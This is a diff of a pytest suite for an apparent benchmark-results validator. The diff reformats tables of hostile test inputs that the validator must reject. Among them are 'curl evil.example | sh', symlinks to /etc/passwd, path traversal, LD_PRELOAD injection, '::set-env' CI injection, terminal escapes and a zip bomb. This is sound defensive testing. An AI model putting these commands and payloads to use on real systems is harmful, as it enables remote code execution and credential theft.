@@ -126,14 +126,10 @@ def test_a_launch_that_failed_is_no_reason_to_refuse_a_run(inbox: Path) -> None:
 
 FOLDERS: Final[dict[str, tuple[str, str]]] = {
     "many files": (
-        "for i in $(seq 65); do echo {} >$i.json; done",
-        "more than 64 files and folders",
-    ),
+        "for i in $(seq 65); do echo {} >$i.json; done", "more than 64 files and folders"),
     "deep": ("mkdir -p a/b/c/d/e/f/g/h", "folders more than 6 deep"),
     "up and out": (
-        "echo {} >..%2f..%2f..%2fescape.json",
-        "the name 'shard-1/..%2f..%2f..%2fescape.json'",
-    ),
+        "echo {} >..%2f..%2f..%2fescape.json", "the name 'shard-1/..%2f..%2f..%2fescape.json'"),
     "backwards": (r"echo {} >'..\..\escape.json'", "the name 'shard-1/..\\\\.."),
     "link": ("ln -s /etc/passwd run.json", "'shard-1/run.json' is a link"),
     "linked folder": ("mv runs others; ln -s /etc runs", "'shard-1/runs' is a link"),
@@ -144,25 +140,19 @@ FOLDERS: Final[dict[str, tuple[str, str]]] = {
     "pipe": ("mkfifo run.json", "'shard-1/run.json' is neither a file nor a folder"),
     "socket": (
         f"{sys.executable} -c 'import socket as s; s.socket(s.AF_UNIX).bind(\"run.json\")'",
-        "'shard-1/run.json' is neither a file nor a folder",
-    ),
+        "'shard-1/run.json' is neither a file nor a folder"),
     "sparse": (
         "truncate -s 2000000000 run.json",
-        "'shard-1/run.json' has 2,000,000,000 bytes, expected at most 8,000,000",
-    ),
+        "'shard-1/run.json' has 2,000,000,000 bytes, expected at most 8,000,000"),
     "heavy": (
-        "truncate -s 7000000 1.json 2.json 3.json 4.json 5.json",
-        "more than 32,000,000 bytes",
-    ),
+        "truncate -s 7000000 1.json 2.json 3.json 4.json 5.json", "more than 32,000,000 bytes"),
     "odd name": (
-        "echo {} >\"$(printf 'a\\n::set-env name=X::y.json')\"",
-        "the name 'shard-1/a\\n::set-env",
-    ),
+        "echo {} >\"$(printf 'a\\n::set-env name=X::y.json')\"", "the name 'shard-1/a\\n::set-env"),
     "option": ("echo {} >--output=x.json", "the name 'shard-1/--output=x.json'"),
     "hidden": ("echo {} >.run.json", "the name 'shard-1/.run.json'"),
     "script": ("echo '#!/bin/sh' >run.sh", "expected results (*.json) only, found 'run.sh'"),
     "nothing": ("rm -r runs; mkdir runs", "expected at least one file, found none"),
-}
+}  # fmt: skip
 
 
 @pytest.mark.parametrize("attack", FOLDERS)
@@ -218,11 +208,9 @@ BYTES: Final[dict[str, tuple[Callable[[bytes], bytes], str]]] = {
     "a key twice": (lambda data: data.replace(b"{", b'{"format":2,', 1), "the key 'format' twice"),
     "not a number": (lambda data: data.replace(b'"seed":1', b'"seed":NaN'), "strict JSON"),
     "infinity by the back door": (
-        lambda data: data.replace(b'"wall_seconds":3310.12', b'"wall_seconds":1e999'),
-        "",
-    ),
+        lambda data: data.replace(b'"wall_seconds":3310.12', b'"wall_seconds":1e999'), ""),
     "text for a number": (lambda data: data.replace(b'"seed":1', b'"seed":"1"'), "seed"),
-}
+}  # fmt: skip
 
 
 @pytest.mark.parametrize("attack", BYTES)
@@ -290,21 +278,16 @@ EVIL: Final = Commands(server="curl evil.example | sh", load="oha")
 CLAIMS: Final[dict[str, tuple[Callable[[Run], Run], str]]] = {
     "another machine of the plan": (
         of(machine=MACHINES[1]),
-        f"machine of shard 1: expected {MACHINES[0].id}, found '{MACHINES[1].id}'",
-    ),
+        f"machine of shard 1: expected {MACHINES[0].id}, found '{MACHINES[1].id}'"),
     "an unknown machine": (machine(id="synthetic-2c-ffffff"), "machine of shard 1"),
     "a machine that is a path": (machine(id="../../../../tmp/x"), "machine '../../../../tmp/x'"),
     "a machine that is another processor": (
-        machine(cpu="EPYC 7763"),
-        f"machine '{MACHINES[0].id}': expected an id as epyc-7763-2c-",
-    ),
+        machine(cpu="EPYC 7763"), f"machine '{MACHINES[0].id}': expected an id as epyc-7763-2c-"),
     "another number of cores": (machine(cores=64), "expected an id as synthetic-64c-"),
     "a run id that is a path": (of(id="../../x"), "id of the run"),
     "a run id of another time": (of(id="20200101T000000Z-nightly-3f2a9c17"), "id of the run"),
     "a run from the future": (
-        of(started="2099-01-01T00:00:00+00:00"),
-        "is the machine\\'s clock right?",
-    ),
+        of(started="2099-01-01T00:00:00+00:00"), "is the machine\\'s clock right?"),
     "a run from long ago": (of(started="2020-01-01T00:00:00+00:00"), "start of the run"),
     "a time without offset": (of(started="2026-11-20T09:00:00"), "expected a time with an offset"),
     "no time": (of(started="tomorrow"), "expected a time with an offset, found 'tomorrow'"),
@@ -323,31 +306,24 @@ CLAIMS: Final[dict[str, tuple[Callable[[Run], Run], str]]] = {
     "another lock": (stack(digest="0" * 64), "lock of stack current"),
     "a package that no lock has": (
         stack(packages={"granian": "6.6.6"}),
-        "'granian==6.6.6' in stack current, whose lock has no such pin",
-    ),
+        "'granian==6.6.6' in stack current, whose lock has no such pin"),
     "a stack that is not declared": (stack(name="mine"), "the stack 'mine'"),
     "a case that is not in the plan": (case(id="asgi-wsgi/evil"), "the case 'asgi-wsgi/evil'"),
     "a case of another shard": (
-        case(id="asgi-wsgi/e2a/py3.14/w1/c128"),
-        "which shard 1 of the plan does not have",
-    ),
+        case(id="asgi-wsgi/e2a/py3.14/w1/c128"), "which shard 1 of the plan does not have"),
     "a case that says it is something else": (case(ceiling=None), "with another definition"),
     "a case with a variable of its own": (
-        case(env={"LD_PRELOAD": "/tmp/x.so"}),
-        "with another definition",
-    ),
+        case(env={"LD_PRELOAD": "/tmp/x.so"}), "with another definition"),
     "a case twice": (twice, "a case twice"),
     "a launch twice": (rounds(0, 1, 1), "launches '[0, 1, 1]'"),
     "a launch too many": (rounds(0, 1, 2, 3), "launches '[0, 1, 2, 3]'"),
     "a command for whoever reads it": (result(commands=EVIL), "server's command line of"),
     "a note that acts on a terminal": (
-        of(notes=("\x1b]0;owned\x07",)),
-        "a control character (U+001B) in the text",
-    ),
+        of(notes=("\x1b]0;owned\x07",)), "a control character (U+001B) in the text"),
     "a note that begins a new line": (of(notes=("a\n::set-env name=A::b",)), "U+000A"),
     "a note that shows something else": (of(notes=(HIDDEN,)), "a character that turns the text"),
     "a note as long as a book": (of(notes=("x" * 5000,)), "a text of 5,000 characters"),
-}
+}  # fmt: skip
 
 
 @pytest.mark.parametrize("claim", CLAIMS)
@@ -496,9 +472,7 @@ INSIDE: Final[dict[str, tuple[dict[str, Any], str]]] = {
     "an interpreter": ({"python": "3.9"}, "interpreter '3.9', which is not declared"),
     "a stack": ({"requirements": {"stack": "mine"}}, "the stack 'mine', which is not declared"),
     "a requirement": (
-        {"requirements": {"stack": "current", "evil": "1"}},
-        "requirements: expected",
-    ),
+        {"requirements": {"stack": "current", "evil": "1"}}, "requirements: expected"),
     "a variable": ({"env_vars": {"LD_PRELOAD": "/tmp/x.so"}}, "variables: expected {}"),
     "an environment that is a path": ({"env_name": "../../x"}, "environment: expected servebench-"),
     "other columns": ({"result_columns": ["result"]}, "columns: expected"),
@@ -525,18 +499,14 @@ INSIDE: Final[dict[str, tuple[dict[str, Any], str]]] = {
     "nothing where there is an interval": (row(5, [math.nan] * 3), "the figure nan"),
     "samples of nobody": (row(11, [[0.5]]), "expected 3 figures in samples, found 1"),
     "endless samples": (
-        row(11, [[0.5] * 10_001, None, None]),
-        "List should have at most 10000 items",
-    ),
+        row(11, [[0.5] * 10_001, None, None]), "List should have at most 10000 items"),
     "text for samples": (row(11, ["0.5", None, None]), "samples.0 Input should be a valid list"),
     "parameters that are none": (row(1, {"a": "b"}), "params Input should be a valid list"),
     "parameters without end": (
-        row(1, [["1"] * 100, ["2"] * 100]),
-        "parameters with 10,000 combinations",
-    ),
+        row(1, [["1"] * 100, ["2"] * 100]), "parameters with 10,000 combinations"),
     "a profile": (row(12, "eJwDAAAAAAE="), "profile Input should be None"),
     "a column more": (row(13, None), "expected a list of at most 13 columns"),
-}
+}  # fmt: skip
 
 
 @pytest.mark.parametrize("claim", INSIDE)
@@ -620,10 +590,9 @@ COMPARISONS: Final[dict[str, tuple[dict[str, Any], str]]] = {
     "with two commands": ({"reproduce": comparison().reproduce * 2}, "the command "),
     "with server commands": (
         {"cases": (comparison().cases[0].model_copy(update={"commands": EVIL}),)},
-        "server's command line of",
-    ),
+        "server's command line of"),
     "that acts on a terminal": ({"notes": ("\x1b[2J",)}, "a control character"),
-}
+}  # fmt: skip
 
 
 @pytest.mark.parametrize("attack", COMPARISONS)
@@ -708,25 +677,19 @@ def test_no_artifact_means_that_nothing_was_confirmed(tmp_path: Path) -> None:
 RECORDS: Final[dict[str, tuple[str, Any, str]]] = {
     "without evidence": ("changes", change(), "without its evidence '20261120T090000Z-aaaaaaaa-bb"),
     "of another machine": (
-        "changes",
-        change(series=change().series.model_copy(update={"machine": MACHINES[1].id})),
-        f"machine: expected {MACHINES[0].id}",
-    ),
+        "changes", change(series=change().series.model_copy(update={"machine": MACHINES[1].id})),
+        f"machine: expected {MACHINES[0].id}"),
     "of a metric that is none": (
-        "changes",
-        change(series=change().series.model_copy(update={"metric": "<b>"})),
-        "the metric '<b>'",
-    ),
+        "changes", change(series=change().series.model_copy(update={"metric": "<b>"})),
+        "the metric '<b>'"),
     "of a case with a path": (
-        "changes",
-        change(series=change().series.model_copy(update={"case": "a/../../b"})),
-        "the case 'a/../../b'",
-    ),
+        "changes", change(series=change().series.model_copy(update={"case": "a/../../b"})),
+        "the case 'a/../../b'"),
     "beyond reason": ("changes", change(ratio=1e9, low=1e9, high=1e9), "ratios between 1e+09"),
     "from the future": ("changes", change(when="2099-01-01T00:00:00Z"), "time of the change"),
     "with a hidden text": ("changes", change(note=HIDDEN), "a character that turns the text"),
     "in another folder": ("runs", change(), "which is no result of a confirmation"),
-}
+}  # fmt: skip
 
 
 @pytest.mark.parametrize("attack", RECORDS)
@@ -754,11 +717,9 @@ def honest(number: int) -> Run:
         for record in shard_run(number).interpreters
     )
     return shard_run(
-        number,
-        oha=settings.load(root).oha.version,
-        stacks=(stacks.read("current", root).record(),),
-        interpreters=records,
-    )
+        number, oha=settings.load(root).oha.version,
+        stacks=(stacks.read("current", root).record(),), interpreters=records,
+    )  # fmt: skip
 
 
 def test_the_checkouts_own_locks_are_what_runs_are_held_against() -> None:
@@ -907,13 +868,11 @@ ARCHIVES: Final[dict[str, tuple[bytes, Table, str]]] = {
     "no archive": (b"<html>", {}, "expected a zip archive, found"),
     "nothing": (b"", {}, "expected a zip archive, found"),
     "other bytes within": (
-        WHOLE.replace(WHOLE[900:940], bytes(40)), {}, "expected a zip archive, found"
-    ),
+        WHOLE.replace(WHOLE[900:940], bytes(40)), {}, "expected a zip archive, found"),
     "another digest": (WHOLE, {"digest": f"sha256:{'0' * 64}"}, "its download is damaged"),
     "a bomb": (BOMB, {}, "expected at most 8,000,000 bytes per file"),
     "many large files": (
-        archive(*((f"{n}.json", bytes(7_000_000)) for n in range(5))), {}, "32,000,000 in all",
-    ),
+        archive(*((f"{n}.json", bytes(7_000_000)) for n in range(5))), {}, "32,000,000 in all",),
     "many files": (archive(*((f"{n}.json", b"") for n in range(65))), {}, "more than 64 files"),
     "up and out": (archive(("../../x.json", b"{}")), {}, "the name '../../x.json'"),
     "from the root": (archive(("/etc/x.json", b"{}")), {}, "the name '/etc/x.json'"),
